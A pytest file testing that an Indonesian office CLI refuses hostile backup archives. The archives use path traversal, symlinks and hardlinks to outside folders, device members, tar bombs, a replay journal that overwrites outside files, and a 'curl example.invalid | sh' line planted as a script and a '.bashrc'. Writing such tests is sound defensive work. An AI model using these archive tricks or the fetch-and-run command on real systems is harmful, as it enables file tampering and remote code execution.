"""Issue 8, section 1 (a backup is untrusted input) and section 4 (``cadangkan --dengan-kunci`` seals the keys).

Every hostile archive here is built by hand with a manifest that "matches" (made by the same hand). After
each, the folder the archive aims at and a neighbouring folder are hashed before and after: nothing outside
the target may change, and a refused restore leaves neither the target nor its ``.pulihkan-*`` staging.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import stat
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import FIXED_TIME, Cli, example

from sakti_cli.register.backup import KEYS_MEMBER, MANIFEST_NAME

NIK = b"6201025403850003"
PASSPHRASE = "kalimat sandi cadangan"


# --- a small workspace and its good backup, built once ------------------------------------------
@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small workspace with one application (and its scans), made once; tests copy it."""
    from sakti_cli.office.workspace import init_workspace

    root = tmp_path_factory.mktemp("sumber")
    with pytest.MonkeyPatch.context() as env:
        env.setenv("SAKTI_WAKTU", FIXED_TIME)
        ws = init_workspace(root / "kantor")
        Cli().json("--kantor", str(ws.root), "daftar", "sktm", "--data", str(example("sktm")))
    return ws.root


@pytest.fixture(scope="module")
def good(source: Path) -> Iterator[dict[str, bytes]]:
    """The members of a real backup of that workspace."""
    with pytest.MonkeyPatch.context() as env:
        env.setenv("SAKTI_WAKTU", FIXED_TIME)
        archive = Cli().json("--kantor", str(source), "cadangkan", str(source.parent / "baik.tar.gz"))["berkas"]
    with tarfile.open(archive) as tar:
        yield {m.name: tar.extractfile(m).read() for m in tar.getmembers()}  # type: ignore[union-attr]


def manifest_for(members: dict[str, bytes], **changes: object) -> bytes:
    """A manifest that lists exactly these members with their sizes and hashes."""
    manifest = json.loads(members[MANIFEST_NAME])
    manifest["berkas"] = [{"path": name, "ukuran": len(data), "sha256": hashlib.sha256(data).hexdigest()}
                          for name, data in members.items() if name != MANIFEST_NAME]
    manifest.update(changes)
    return json.dumps(manifest).encode()


def tar_with(path: Path, members: dict[str, bytes], extra: list[tarfile.TarInfo] = (),  # type: ignore[assignment]
             **changes: object) -> Path:
    """A .tar.gz of ``members`` under a matching manifest, then the hand-made ``extra`` headers."""
    with tarfile.open(path, "w:gz") as tar:
        for name, data in {**members, MANIFEST_NAME: manifest_for(members, **changes)}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for info in extra:
            tar.addfile(info, io.BytesIO(b"x" * info.size) if info.isreg() else None)
    return path


def snapshot(folder: Path) -> dict[str, str]:
    """Every entry under ``folder`` (files by content, links by target, folders by mode)."""
    out = {}
    for path in sorted([folder, *folder.rglob("*")]) if folder.exists() else []:
        info = path.lstat()
        if stat.S_ISLNK(info.st_mode):
            out[str(path)] = "->" + os.readlink(path)
        elif stat.S_ISREG(info.st_mode):
            out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            out[str(path)] = oct(info.st_mode)
    return out


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder outside every workspace that a hostile archive or journal aims at, and a neighbour."""
    folder = tmp_path / "luar"
    folder.mkdir()
    (folder / "korban.txt").write_text("jangan diganti\n")
    (folder / "log.txt").write_text("baris lama\n")
    (folder / "hapus-aku.txt").write_text("jangan dihapus\n")
    (folder / "sumber.baru").write_text("isi penyerang\n")
    neighbour = tmp_path / "pulih" / "tetangga"
    neighbour.mkdir(parents=True)
    (neighbour / "catatan.txt").write_text("milik orang lain\n")
    return folder


def hostile_journal(outside: Path) -> bytes:
    return json.dumps({"ganti": [[str(outside / "sumber.baru"), str(outside / "korban.txt")]],
                       "tambah": [[str(outside / "log.txt"), "x1", "baris penyerang"]],
                       "hapus": [str(outside / "hapus-aku.txt")]}).encode()


def assert_refused(cli: Cli, archive: Path, tmp_path: Path, outside: Path, code: int, *needles: str) -> None:
    """Restore ``archive``: refused with ``code``, the message naming what it found, nothing changed."""
    before = {**snapshot(outside), **snapshot(tmp_path / "pulih")}
    target = tmp_path / "pulih" / "kantor"
    result = cli("pulihkan", str(archive), "--ke", str(target), "--json")
    assert result.exit_code == code, (result.stdout, result.stderr)
    message = json.loads(result.stdout)["error"]["pesan"]
    assert archive.name in message and "Traceback" not in result.stderr
    for needle in needles:
        assert needle in message, message
    assert {**snapshot(outside), **snapshot(tmp_path / "pulih")} == before
    assert not target.exists() and not list((tmp_path / "pulih").glob(".pulihkan-*"))
    for path in (tmp_path / "pulih").rglob("*"):  # no personal data left beside the target
        assert not path.is_file() or NIK not in path.read_bytes()


# --- section 1: the journal ----------------------------------------------------------------------
def zip_with(path: Path, members: dict[str, bytes], **changes: object) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {**members, MANIFEST_NAME: manifest_for(members, **changes)}.items():
            archive.writestr(name, data)
    return path


@pytest.mark.parametrize("form", ["tar.gz manifes 2", "tar.gz manifes 1 dengan kunci", "zip manifes 2"])
def test_journal_in_an_archive_is_refused_and_never_replayed(good: dict[str, bytes], cli: Cli, tmp_path: Path,
                                                             outside: Path, form: str) -> None:
    """Every backup format sakti has read: tar or zip, manifest 2 (sealed keys) or 1 (plain keys)."""
    members = {**good, "data/register/.jurnal.json": hostile_journal(outside)}
    if form.startswith("zip"):
        archive = zip_with(tmp_path / "jurnal.zip", members)
    else:
        old = {"versi_manifest": 1, "dengan_kunci": True} if "1" in form else {}
        archive = tar_with(tmp_path / "jurnal.tar.gz", members, **old)
    assert_refused(cli, archive, tmp_path, outside, 3, "data/register/.jurnal.json", "jurnal")
    assert (outside / "korban.txt").read_text() == "jangan diganti\n"
    assert (outside / "hapus-aku.txt").exists()


@pytest.fixture
def live(source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """This test's own workspace: a copy of the module's (the register names no absolute path)."""
    kantor = tmp_path / "kantor"
    shutil.copytree(source, kantor, symlinks=True)
    monkeypatch.setenv("SAKTI_KANTOR", str(kantor))
    return kantor


@pytest.mark.parametrize("how", ["absolut", "naik", "tautan"])
def test_live_journal_leaving_the_register_is_not_replayed(live: Path, cli: Cli, outside: Path, how: str) -> None:
    kantor = live
    register = kantor / "data" / "register"
    if how == "absolut":
        journal = hostile_journal(outside)
    elif how == "naik":
        up = os.path.relpath(outside, register)  # ../../../luar
        journal = json.dumps({"ganti": [[f"{up}/sumber.baru", f"{up}/korban.txt"]], "tambah": [],
                              "hapus": [f"{up}/hapus-aku.txt"]}).encode()
    else:
        (register / "tautan").symlink_to(outside)
        journal = json.dumps({"ganti": [], "tambah": [["tautan/log.txt", "x1", "baris penyerang"]],
                              "hapus": ["tautan/hapus-aku.txt"]}).encode()
    (register / ".jurnal.json").write_bytes(journal)
    before = snapshot(outside)
    for command in (["permohonan"], ["daftar", "sktm", "--data", str(example("sktm"))]):
        result = cli(*command, "--json")
        assert result.exit_code == 4, (command, result.stdout, result.stderr)
        error = json.loads(result.stdout)["error"]
        assert error["kode"] == "REGISTER_RUSAK" and ".jurnal.json" in error["pesan"], error
        assert "luar" in error["pesan"] or "tautan" in error["pesan"]
        assert snapshot(outside) == before
    # register periksa reports the journal as a problem (exit 1), it does not run it either
    checked = cli("register", "periksa", "--json")
    assert checked.exit_code == 1, checked.stdout
    [problem] = [p for p in json.loads(checked.stdout)["masalah"] if p["jenis"] == "jurnal"]
    assert "luar" in problem["pesan"] or "tautan" in problem["pesan"]
    assert snapshot(outside) == before
    assert (register / ".jurnal.json").read_bytes() == journal  # kept for whoever investigates


def test_journal_entries_are_relative(live: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A journal sakti writes names files relative to the register (moving the folder keeps it valid)."""
    from sakti_cli.register.tiny.engine import FileSet, read_journal

    kantor = live
    files = FileSet(kantor / "data" / "register")
    files.db("urutan.json").table("uji").insert({"a": 1})
    files.append("audit/2026-11.jsonl", "idx", '{"id":"idx"}')
    # stop after the journal is written
    monkeypatch.setattr("sakti_cli.register.tiny.engine.apply_journal", lambda root: True)
    files.commit()
    plan = json.loads((kantor / "data" / "register" / ".jurnal.json").read_text())
    assert plan["ganti"] == [["urutan.json.baru", "urutan.json"]] and plan["tambah"][0][0] == "audit/2026-11.jsonl"
    moved = tmp_path / "dipindah"
    shutil.move(kantor, moved)
    checked = read_journal(moved / "data" / "register")
    assert checked is not None and checked["ganti"][0][1] == moved / "data" / "register" / "urutan.json"


# --- section 1: members that are not a workspace's files ----------------------------------------
def _link(name: str, kind: bytes, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


@pytest.mark.parametrize(("case", "needles"), [
    ("naik", ["tidak aman", "../luar/korban.txt"]),
    ("absolut", ["tidak aman", "/luar/korban.txt"]),
    ("tautan_lalu_berkas", ["bukan berkas biasa", "data/berkas/tautan"]),
    ("tautan_keras", ["bukan berkas biasa", "data/berkas/keras"]),
    ("perangkat", ["bukan berkas biasa", "data/berkas/null"]),
    ("pipa", ["bukan berkas biasa", "data/berkas/pipa"]),
    ("ganda", ["lebih dari sekali", "sakti.toml"]),
    ("skrip", ["di luar bagian kantor", "sop/pasang.sh"]),
    ("tersembunyi", ["di luar bagian kantor", "data/berkas/.bashrc"]),
    ("kunci_polos", ["di luar bagian kantor", "pki/camat.p12"]),
])
def test_pulihkan_refuses_hostile_members(good: dict[str, bytes], cli: Cli, tmp_path: Path, outside: Path,
                                          case: str, needles: list[str]) -> None:
    members, extra = dict(good), []
    if case in ("naik", "absolut"):
        name = "../luar/korban.txt" if case == "naik" else str(outside / "korban.txt")
        members[name] = b"ditimpa"
        needles = [needles[0], name]
    elif case == "tautan_lalu_berkas":
        extra = [_link("data/berkas/tautan", tarfile.SYMTYPE, str(outside))]
        file_info = tarfile.TarInfo("data/berkas/tautan/korban.txt")
        file_info.size = 4
        extra.append(file_info)
    elif case == "tautan_keras":
        extra = [_link("data/berkas/keras", tarfile.LNKTYPE, str(outside / "korban.txt"))]
    elif case in ("perangkat", "pipa"):
        info = tarfile.TarInfo(f"data/berkas/{'null' if case == 'perangkat' else 'pipa'}")
        info.type = tarfile.CHRTYPE if case == "perangkat" else tarfile.FIFOTYPE
        info.devmajor, info.devminor = 1, 3
        extra = [info]
    elif case == "ganda":
        second = tarfile.TarInfo("sakti.toml")
        second.size = 1
        extra = [second]
    elif case == "skrip":
        members["sop/pasang.sh"] = b"curl example.invalid | sh\n"
    elif case == "tersembunyi":
        members["data/berkas/.bashrc"] = b"curl example.invalid | sh\n"
    else:  # a private key as a plain file in a manifest-2 backup made "with keys"
        members["pki/camat.p12"] = b"kunci"
        archive = tar_with(tmp_path / "buruk.tar.gz", members, dengan_kunci=False)
        assert_refused(cli, archive, tmp_path, outside, 3, *needles)
        return
    archive = tar_with(tmp_path / "buruk.tar.gz", members, extra)
    assert_refused(cli, archive, tmp_path, outside, 3, *needles)


@pytest.mark.parametrize("case", ["tautan", "ganda", "naik"])
def test_pulihkan_refuses_hostile_zip_members(good: dict[str, bytes], cli: Cli, tmp_path: Path, outside: Path,
                                              case: str) -> None:
    members = dict(good)
    if case == "naik":
        members["../luar/korban.txt"] = b"ditimpa"
    path = tmp_path / "buruk.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {**members, MANIFEST_NAME: manifest_for(members)}.items():
            archive.writestr(name, data)
        if case == "tautan":
            link = zipfile.ZipInfo("data/berkas/tautan")
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, str(outside))
        elif case == "ganda":
            with pytest.warns(UserWarning):
                archive.writestr("sakti.toml", b"[kantor]\n")
    needle = {"tautan": "data/berkas/tautan", "ganda": "lebih dari sekali", "naik": "../luar/korban.txt"}[case]
    assert_refused(cli, path, tmp_path, outside, 3, needle)


def test_non_utf8_register_file_in_an_archive_is_named(good: dict[str, bytes], cli: Cli, tmp_path: Path,
                                                       outside: Path) -> None:
    trail = next(n for n in good if n.startswith("data/register/audit/"))
    members = {**good, trail: good[trail] + b'{"aksi": "\xff"}\n'}
    archive = tar_with(tmp_path / "bukan-utf8.tar.gz", members)
    assert_refused(cli, archive, tmp_path, outside, 4, trail.rsplit("/", 1)[1], "rusak")


def test_size_in_the_header_must_match_the_manifest(good: dict[str, bytes], cli: Cli, tmp_path: Path,
                                                    outside: Path) -> None:
    members = dict(good)
    fake = json.loads(manifest_for(members))
    for entry in fake["berkas"]:
        if entry["path"] == "sakti.toml":
            entry["ukuran"] += 1
    path = tmp_path / "ukuran.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, data in {**members, MANIFEST_NAME: json.dumps(fake).encode()}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    assert_refused(cli, path, tmp_path, outside, 3, "sakti.toml", "manifesnya mencatat")


# --- section 1: bombs ----------------------------------------------------------------------------
def test_declared_size_is_bounded_before_reading(good: dict[str, bytes], cli: Cli, tmp_path: Path,
                                                 outside: Path) -> None:
    """A header that declares 5 GiB (the body is not there): refused by its header, naming it."""
    path = tmp_path / "bom.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, data in {**good, MANIFEST_NAME: manifest_for(good)}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        huge = tarfile.TarInfo("data/berkas/REG-202611-0001/raksasa.pdf")
        huge.size = 5 << 30
        tar.fileobj.write(huge.tobuf())  # type: ignore[union-attr]  # the header only: a bomb's promise
    assert_refused(cli, path, tmp_path, outside, 3, "data/berkas/REG-202611-0001/raksasa.pdf", "batas")


def test_a_huge_tar_header_is_not_read_into_memory(good: dict[str, bytes], cli: Cli, tmp_path: Path,
                                                   outside: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """tarfile reads a pax header whole: one declaring more than the bound is refused before it is read."""
    monkeypatch.setattr("sakti_cli.register.restore.MAX_READ", 1 << 20)
    path = tmp_path / "pax.tar.gz"
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, data in {**good, MANIFEST_NAME: manifest_for(good)}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            if name == "sakti.toml":
                info.pax_headers = {"comment": "x" * (2 << 20)}
            tar.addfile(info, io.BytesIO(data))
    assert_refused(cli, path, tmp_path, outside, 3, "kepala tar")


def test_member_count_and_total_are_bounded(good: dict[str, bytes], cli: Cli, tmp_path: Path, outside: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sakti_cli.register.restore.MAX_MEMBERS", len(good) + 5)
    many = {**good, **{f"data/berkas/REG-202611-0001/isi-{i:03}.jpg": b"x" for i in range(10)}}
    assert_refused(cli, tar_with(tmp_path / "banyak.tar.gz", many), tmp_path, outside, 3,
                   f"lebih dari {len(good) + 5} berkas")
    monkeypatch.setattr("sakti_cli.register.restore.MAX_MEMBERS", 500_000)
    monkeypatch.setattr("sakti_cli.register.restore.MAX_TOTAL_SIZE", sum(map(len, good.values())) + 100)
    big = {**good, "data/berkas/REG-202611-0001/besar.pdf": b"%" * 20_000}
    assert_refused(cli, tar_with(tmp_path / "besar.tar.gz", big), tmp_path, outside, 3, "lebih dari")


# --- section 1: the restored copy must pass 'register periksa' ------------------------------------
def test_restored_copy_failing_the_register_check_is_removed(good: dict[str, bytes], cli: Cli, tmp_path: Path,
                                                             outside: Path) -> None:
    urutan = json.loads(good["data/register/urutan.json"])
    for doc in urutan["urutan"].values():
        if str(doc.get("kunci", "")).startswith("registrasi|"):
            doc["nilai"] = 0  # the counter behind the recorded REG-202611-0001: numbers would be reused
    members = {**good, "data/register/urutan.json": json.dumps(urutan).encode()}
    archive = tar_with(tmp_path / "penghitung.tar.gz", members)
    assert_refused(cli, archive, tmp_path, outside, 4, "tidak lolos pemeriksaan register", "urutan.json")


@pytest.mark.parametrize(("field", "status"), [("pdf", "TERBIT"), ("pdf_belum_ttd", "MENUNGGU_TTD")])
def test_records_naming_files_outside_their_folder_fail_the_check(good: dict[str, bytes], cli: Cli, tmp_path: Path,
                                                                  outside: Path, field: str, status: str) -> None:
    """A letter whose recorded PDF lies outside data/surat (or data/antrean) would later be read, signed or
    deleted there (the signing queue deletes its unsigned PDF): the check names it, the copy is refused."""
    victim = outside / "korban.txt"
    letter = {"id": "a1", "bulan": "2026-11-00", "nomor_surat": "X/001/2026", "urut": 1, "tahun": 2026,
              "lingkup": "nomor|layanan:sktm|2026", "status": status, "nomor_registrasi": "REG-202611-0001",
              field: os.path.relpath(victim, tmp_path / "pulih" / "kantor"),
              "sha256" if field == "pdf" else "sha256_belum_ttd": hashlib.sha256(victim.read_bytes()).hexdigest()}
    members = {**good, "data/register/surat/2026-11-00.json": json.dumps({"surat": {"1": letter}}).encode()}
    archive = tar_with(tmp_path / "jalur.tar.gz", members)
    before = snapshot(outside)
    result = cli("pulihkan", str(archive), "--ke", str(tmp_path / "pulih" / "kantor"), "--json")
    assert result.exit_code == 4, result.stdout
    problems = json.loads(result.stdout)["error"]["detail"]["masalah"]
    assert any(p["jenis"] == "jalur_tidak_sah" and "korban.txt" in p["pesan"] for p in problems), problems
    assert snapshot(outside) == before and not (tmp_path / "pulih" / "kantor").exists()


def test_nik_in_an_old_trail_restores_with_a_warning(good: dict[str, bytes], cli: Cli, tmp_path: Path) -> None:
    """An older sakti wrote free text with a NIK into the append-only trail: the office can never repair
    that, so the restore keeps it and warns (every other problem of the check refuses the copy)."""
    from sakti_cli.register.trail import event_hash

    trail = next(n for n in good if n.startswith("data/register/audit/"))
    last = json.loads(good[trail].splitlines()[-1])
    event = {**last, "id": "0123456789abcdef", "aksi": "tolak", "detail": {"alasan": f"NIK {NIK.decode()} salah"},
             "prev": last["hash"]}
    event["hash"] = event_hash(event)
    urutan = json.loads(good["data/register/urutan.json"])
    for doc in urutan["audit"].values():
        doc.update(hash=event["hash"], jumlah=doc["jumlah"] + 1)
    members = {**good, trail: good[trail] + json.dumps(event).encode() + b"\n",
               "data/register/urutan.json": json.dumps(urutan).encode()}
    restored = cli.json("pulihkan", str(tar_with(tmp_path / "lama.tar.gz", members)), "--ke", str(tmp_path / "k"))
    assert len(restored["peringatan"]) == 1 and "6201********0003" in restored["peringatan"][0]


def test_good_backups_still_restore_in_every_format(good: dict[str, bytes], cli: Cli, tmp_path: Path) -> None:
    """tar and zip, manifest 2, and manifest 1 made with keys (its private keys were plain files then)."""
    old_keys = {**good, "pki/camat.p12": b"kunci lama"}
    for path in (zip_with(tmp_path / "baik.zip", good), tar_with(tmp_path / "baik.tar.gz", good),
                 tar_with(tmp_path / "lama.tar.gz", old_keys, versi_manifest=1, dengan_kunci=True)):
        target = tmp_path / path.name.replace(".", "-")
        restored = cli.json("pulihkan", str(path), "--ke", str(target))
        assert restored["ke"] == str(target)
        assert cli.json("--kantor", str(target), "register", "periksa")["bersih"] is True
    assert (tmp_path / "lama-tar-gz" / "pki" / "camat.p12").read_bytes() == b"kunci lama"


# --- section 4: cadangkan --dengan-kunci ----------------------------------------------------------
@pytest.fixture
def keyed(live: Path, demo_pki: object) -> Path:
    """A workspace with the demo key and a passphrase file beside it (the case the issue names)."""
    kantor = live
    shutil.copy(demo_pki.signer_p12, kantor / "pki" / "camat.p12")  # type: ignore[attr-defined]
    shutil.copy(demo_pki.root_cert, kantor / "pki" / "demo-root.pem")  # type: ignore[attr-defined]
    secret = kantor / "pki" / "sandi-camat.txt"
    secret.write_text("demo-sandi-rahasia\n")
    secret.chmod(0o600)
    return kantor


def answers(*typed: str | None) -> object:
    queue = list(typed)
    return lambda _label: queue.pop(0)


def test_keys_are_sealed_and_restored_with_the_passphrase(keyed: Path, cli: Cli, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sakti_cli.cli.cadangan.passphrase_prompt", answers(PASSPHRASE, PASSPHRASE))
    made = cli.json("cadangkan", str(tmp_path / "kunci.tar.gz"), "--dengan-kunci")
    assert made["dengan_kunci"] is True and made["kunci_tersegel"] is True
    with tarfile.open(made["berkas"]) as tar:
        names = tar.getnames()
        raw = b"".join(tar.extractfile(m).read() for m in tar.getmembers())  # type: ignore[union-attr]
    assert names[:2] == [MANIFEST_NAME, KEYS_MEMBER]
    assert "pki/demo-root.pem" in names and not {"pki/camat.p12", "pki/sandi-camat.txt"} & set(names)
    assert b"demo-sandi-rahasia" not in raw and (keyed / "pki" / "camat.p12").read_bytes()[:64] not in raw
    with tarfile.open(made["berkas"]) as tar:
        seal_header = json.loads(tar.extractfile(KEYS_MEMBER).read().split(b"\n", 1)[0])  # type: ignore[union-attr]
    assert (seal_header["versi"], seal_header["kdf"]["nama"], seal_header["sandi"]["nama"]) == (
        1, "scrypt", "AES-256-GCM")

    target = tmp_path / "pulih" / "kantor"
    monkeypatch.setattr("sakti_cli.cli.cadangan.passphrase_prompt", answers(PASSPHRASE))
    restored = cli.json("pulihkan", made["berkas"], "--ke", str(target))
    assert restored["kunci_tersegel"] is True
    for name in ("camat.p12", "sandi-camat.txt", "demo-root.pem"):
        assert (target / "pki" / name).read_bytes() == (keyed / "pki" / name).read_bytes()
        assert (target / "pki" / name).stat().st_mode & 0o077 == 0


def test_wrong_passphrase_restores_nothing(keyed: Path, cli: Cli, tmp_path: Path, outside: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sakti_cli.cli.cadangan.passphrase_prompt", answers(PASSPHRASE, PASSPHRASE))
    archive = Path(cli.json("cadangkan", str(tmp_path / "kunci.tar.gz"), "--dengan-kunci")["berkas"])
    monkeypatch.setattr("sakti_cli.cli.cadangan.passphrase_prompt", answers("bukan sandinya"))
    assert_refused(cli, archive, tmp_path, outside, 4, "salah")
    monkeypatch.setattr("sakti_cli.cli.cadangan.passphrase_prompt", answers(None))  # no terminal
    assert_refused(cli, archive, tmp_path, outside, 4, "terminal")


@pytest.mark.parametrize("inner", ["naik", "tautan", "bukan_pki", "diubah"])
def test_sealed_part_is_held_to_the_same_rules(good: dict[str, bytes], cli: Cli, tmp_path: Path, outside: Path,
                                               monkeypatch: pytest.MonkeyPatch, inner: str) -> None:
    """Whoever made the archive also chose its passphrase: what the seal holds is checked like the rest."""
    from sakti_cli.register.backup_keys import seal

    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        if inner == "tautan":
            tar.addfile(_link("pki/tautan", tarfile.SYMTYPE, str(outside)))
        else:
            name = {"naik": "pki/../../luar/korban.txt", "bukan_pki": "data/register/.jurnal.json",
                    "diubah": "pki/camat.p12"}[inner]
            info = tarfile.TarInfo(name)
            info.size = 7
            tar.addfile(info, io.BytesIO(b"ditimpa"))
    blob = seal(packed.getvalue(), PASSPHRASE.encode())
    if inner == "diubah":  # a changed ciphertext under a manifest made to match it
        blob = blob[:-1] + bytes([blob[-1] ^ 1])
    archive = tar_with(tmp_path / "segel.tar.gz", {**good, KEYS_MEMBER: blob}, dengan_kunci=True)
    monkeypatch.setattr("sakti_cli.cli.cadangan.passphrase_prompt", answers(PASSPHRASE))
    needle = {"naik": "tidak aman", "tautan": "bukan berkas biasa", "bukan_pki": "di luar pki/",
              "diubah": "salah (atau bagian kuncinya telah diubah)"}[inner]
    assert_refused(cli, archive, tmp_path, outside, 4 if inner == "diubah" else 3, needle)


def test_no_terminal_or_mismatch_writes_no_archive(keyed: Path, cli: Cli, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "kunci.tar.gz"
    result = cli("cadangkan", str(target), "--dengan-kunci", "--json")  # CliRunner: stdin is not a terminal
    assert result.exit_code == 4, result.stdout
    error = json.loads(result.stdout)["error"]
    assert "terminal" in error["pesan"] and "terminal" in error["saran"]
    monkeypatch.setattr("sakti_cli.cli.cadangan.passphrase_prompt", answers(PASSPHRASE, PASSPHRASE + "!"))
    result = cli("cadangkan", str(target), "--dengan-kunci", "--json")
    assert result.exit_code == 3 and "tidak sama" in json.loads(result.stdout)["error"]["pesan"]
    assert not list(tmp_path.glob("kunci.tar.gz*")) and not list((keyed / "data").glob(".cadangan-*"))


@pytest.mark.slow
def test_letter_waiting_for_its_signature_survives_the_round_trip(kantor: Path, cli: Cli, registered: object,
                                                                  tmp_path: Path) -> None:
    """The restored copy must pass the register check, so a backup holds data/antrean's unsigned PDFs."""
    reg = registered()  # type: ignore[operator]
    cli.json("periksa", reg)
    waiting = cli.json("terbitkan", reg, "--tanpa-ttd")
    made = cli.json("cadangkan", str(tmp_path / "c.tar.gz"))
    target = tmp_path / "pulih"
    cli.json("pulihkan", made["berkas"], "--ke", str(target))
    assert cli.json("--kantor", str(target), "register", "periksa")["bersih"] is True
    queue = cli.json("--kantor", str(target), "ttd", "antrean")
    assert waiting["nomor_surat"] in json.dumps(queue)


def test_backup_holds_only_what_a_restore_accepts(live: Path, cli: Cli, tmp_path: Path) -> None:
    """One list of file kinds for both sides: what cadangkan passes over is named, and its backup restores."""
    kantor = live
    (kantor / "sop" / "catatan.md").write_text("catatan staf\n")
    (kantor / "templat" / "lama.odt").write_bytes(b"odt")
    made = cli.json("cadangkan", str(tmp_path / "c.zip"))
    assert made["dilewati"] == ["sop/catatan.md", "templat/lama.odt"]
    cli.json("pulihkan", made["berkas"], "--ke", str(tmp_path / "pulih"))
    assert not (tmp_path / "pulih" / "sop" / "catatan.md").exists()
